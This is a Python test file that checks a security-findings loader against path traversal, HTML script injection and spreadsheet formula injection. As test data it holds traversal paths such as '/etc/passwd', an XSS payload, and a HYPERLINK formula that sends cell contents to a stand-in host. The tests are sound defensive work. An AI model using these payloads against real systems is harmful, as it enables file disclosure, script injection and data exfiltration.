"""Names and ids that are meant as something else: paths, mark-up, formulas. They are but text."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Final

import pytest
from lxml import html

from tests.sandbox.ciscovm.kdi.check import check
from tests.sandbox.world.clock import Clock
from tests.support.json_lines import json_lines
from tests.target.loads import load
from tests.target.streams import Sync, finding, scan, webapp

if TYPE_CHECKING:
    from pathlib import Path

PATHS: Final = (
    "../../x",
    "/etc/passwd",
    "..",
    "a/b\\c",
    "..\\..\\x",
    "C:\\x",
    "~/x",
    "file:///etc/passwd",
    "%2e%2e%2fx",
    "\x00../x",
    "CON",
    "x" * 400,
    "kdi-0001.json",
    "report.html",
)
MARKUP: Final = "<script>alert('MARK')</script>\"'><img src=x onerror=alert(1)>{{7*7}}&lt;"
FORMULA: Final = '=HYPERLINK("http://192.0.2.1/?"&A1)'


def test_no_name_or_id_leads_out_of_the_folder_of_the_run(tmp_path: Path) -> None:
    rows = [finding(n, n, uniqueId=name, name=name, param=name) for n, name in enumerate(PATHS, 1)]
    apps = [webapp(n, name=name, tags=[{"id": n, "name": name}]) for n, name in enumerate(PATHS, 1)]
    bad = finding(99, status="no such", uniqueId="../../bad", severity="../../bad")
    sync = Sync(apps, [*rows, bad])
    output = tmp_path / "a" / "b" / "output"

    loaded = load(
        sync.lines(Clock().now()), {"output_path": str(output), "max_failed_percent": "50"}
    )

    assert loaded.exit_code == 0, loaded.message
    assert loaded.folder is not None
    assert loaded.folder.parent == output
    inside = {path.name for path in loaded.folder.iterdir()}
    assert inside == {"kdi-0001.json", "rejected.jsonl", "report.json", "report.html"}
    around = {path for path in tmp_path.rglob("*") if loaded.folder not in {path, *path.parents}}
    folders = {tmp_path / "a", tmp_path / "a" / "b", output}
    assert {path for path in around - folders if path.parent != output} == set()
    assert {path.name for path in around if path.is_file()} <= {"ledger.db", "index.html"}


def test_every_text_of_the_page_is_shown_as_text(tmp_path: Path) -> None:
    apps = [webapp(n, name=f"{n} {MARKUP}", tags=[{"id": n, "name": MARKUP}]) for n in (1, 2)]
    rows = [finding(n, name=MARKUP, url=f"https://app.example.test/{MARKUP}") for n in (1, 2, 3)]
    rejected = finding(4, uniqueId=MARKUP, severity=MARKUP)
    unknown = finding(5, status=MARKUP[:40])
    sync = Sync(apps, [*rows, rejected, unknown], scans=[scan(1, webApp={"id": 1, "name": MARKUP})])
    lines = sync.lines(Clock().now())
    stray = json.dumps({"type": MARKUP})

    loaded = load(
        lines + f"{stray}\n".encode(),
        {"output_path": str(tmp_path / MARKUP.replace("/", "_")), "max_failed_percent": "50"},
    )

    assert loaded.folder is not None
    page = (loaded.folder / "report.html").read_bytes()
    document = html.document_fromstring(page)
    assert document.xpath("//script | //img | //iframe | //object | //@onerror | //@onload") == []
    assert b"{{7*7}}" in page or b"49" not in page


@pytest.mark.parametrize("text", [FORMULA, "+A1", "-A1", "@SUM(A1)", "\t=1+1", "\r=A1"])
def test_what_a_spreadsheet_would_run_is_in_json_only(text: str, tmp_path: Path) -> None:
    """No file of a run is a table of plain text, which is where such a cell would run."""
    sync = Sync([webapp(1, name=text)], [finding(1, name=text), finding(2, severity=text)])

    loaded = load(
        sync.lines(Clock().now()), {"output_path": str(tmp_path), "max_failed_percent": "50"}
    )

    assert loaded.folder is not None
    files = list(loaded.folder.iterdir())
    assert {path.suffix for path in files} == {".json", ".jsonl", ".html"}
    for path in files:
        if path.suffix == ".jsonl":
            assert all(isinstance(row, dict) for row in json_lines(path.read_bytes()))
        if path.name.startswith("kdi-"):
            assert check(path.read_bytes()) == []
